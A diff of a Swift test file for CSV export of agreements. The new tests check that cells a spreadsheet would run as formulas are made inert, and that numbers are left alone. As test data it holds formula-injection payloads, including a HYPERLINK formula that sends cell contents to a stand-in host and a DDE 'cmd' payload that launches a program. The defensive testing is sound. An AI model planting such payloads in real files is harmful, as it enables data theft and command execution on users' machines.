@@ -17,7 +17,7 @@ struct CSVExportTests {
 
     @Test func theHoeggenRowsComeBackHeaderFirstWithBOMAndSemicolons() throws {
         let agreement = try ExportFixtures.hoeggen()
-        let document = try AgreementExporter.export(agreement, as: .csv, isPublic: false)
+        let document = try AgreementExporter.export(agreement, as: .csv, isPublic: false, words: ExportFixtures.words)
         #expect(Array(document.data.prefix(3)) == [0xEF, 0xBB, 0xBF])
         #expect(!document.containsPersonalGoals)
         let firstLine = document.text.dropFirst().prefix { $0 != "\r\n" && $0 != "\n" }
@@ -47,15 +47,55 @@ struct CSVExportTests {
     @Test func otherSeparatorsQuoteWhatTheyMust() throws {
         let agreement = ExportFixtures.hostile()
         for separator in [CSVSeparator.comma, .tab, .semicolon] {
-            let data = try AgreementExporter.export(agreement, as: .csv, isPublic: true, separator: separator).data
+            let data = try AgreementExporter.export(agreement, as: .csv, isPublic: true, separator: separator, words: ExportFixtures.words).data
             let rows = try read(data, delimiter: separator.scalar)
             #expect(rows.count == 2)
             #expect(rows[1][4] == SafeText.inert(ExportFixtures.hostileText))
             #expect(rows[1][6] == "Dugnad / - ikke punkt\n| ikke celle |")
         }
-        let text = try AgreementExporter.export(agreement, as: .csv, isPublic: true, separator: .tab).text
+        let text = try AgreementExporter.export(agreement, as: .csv, isPublic: true, separator: .tab, words: ExportFixtures.words).text
         #expect(text.contains("Del\tMålområde\t"))
         #expect(!text.contains("\u{1B}"))
+    }
+
+    @Test func cellsThatASpreadsheetWouldRunAsFormulasAreMadeText() throws {
+        var agreement = ExportFixtures.secretive()
+        let formulas = ["=HYPERLINK(\"http://x.test/?\"&A1;\"klikk\")", "=cmd|' /C calc'!A0", "+SUM(1;2)", "-2+3", "@SUM(A1:A2)",
+                        "\tTAB", "\r=1+1"]
+        agreement.goalAreas[0].rows[0].target = formulas[0]
+        agreement.goalAreas[0].rows[0].resultGoal = formulas[1]
+        agreement.goalAreas[0].rows[0].indicator = formulas[2]
+        agreement.goalAreas[0].rows[0].measures = [Measure(id: "m-1", text: formulas[3])]
+        agreement.goalAreas[0].rows[0].support = [SupportItem(id: "s-1", text: formulas[4])]
+        agreement.goalAreas[0].title = formulas[5]
+        agreement.goalAreas[0].number = ""
+        agreement.goalAreas[0].rows[0].targetNumber = "-3,5"
+        agreement.goalAreas[0].rows[0].log[0].text = formulas[6]
+        let rows = try read(try AgreementExporter.export(agreement, as: .csv, isPublic: true, words: ExportFixtures.words).data)
+        #expect(rows[1][4] == "'" + formulas[0])
+        #expect(rows[1][2] == "'" + formulas[1])
+        #expect(rows[1][5] == "'" + formulas[2])
+        #expect(rows[1][6] == "'" + formulas[3])
+        #expect(rows[1][7] == "'" + formulas[4])
+        #expect(rows[1][1] == "'" + formulas[5])
+        #expect(rows[1][3] == "-3,5", "a number stays a number")
+        let log = try read(try LogExport.render(LogReport(agreement), of: agreement, as: .csv, words: ExportFixtures.words))
+        #expect(log[1][4] == "'\n=1+1", "a carriage return is a formula trigger too (then made a plain newline)")
+        #expect(log[1][1] == "'" + formulas[5])
+    }
+
+    @Test func numbersAndOrdinaryTextAreLeftAlone() throws {
+        var agreement = ExportFixtures.secretive()
+        agreement.goalAreas[0].rows[0].targetNumber = "-3"
+        agreement.goalAreas[0].rows[0].indicator = "-3,5"
+        agreement.goalAreas[0].rows[0].target = "+47"
+        agreement.goalAreas[0].rows[0].resultGoal = "-0.25"
+        agreement.goalAreas[0].rows[0].measures = [Measure(id: "m-1", text: "Tiltak - med strek"), Measure(id: "m-2", text: "1 = 1 @ 2")]
+        agreement.goalAreas[0].rows[0].support = [SupportItem(id: "s-1", text: "- punkt"), SupportItem(id: "s-2", text: "-3 %")]
+        let rows = try read(try AgreementExporter.export(agreement, as: .csv, isPublic: true, words: ExportFixtures.words).data)
+        #expect(Array(rows[1][2...5]) == ["-0.25", "-3", "+47", "-3,5"])
+        #expect(rows[1][6] == "Tiltak - med strek / 1 = 1 @ 2")
+        #expect(rows[1][7] == "'- punkt / -3 %")
     }
 
     @Test func separatorArguments() {
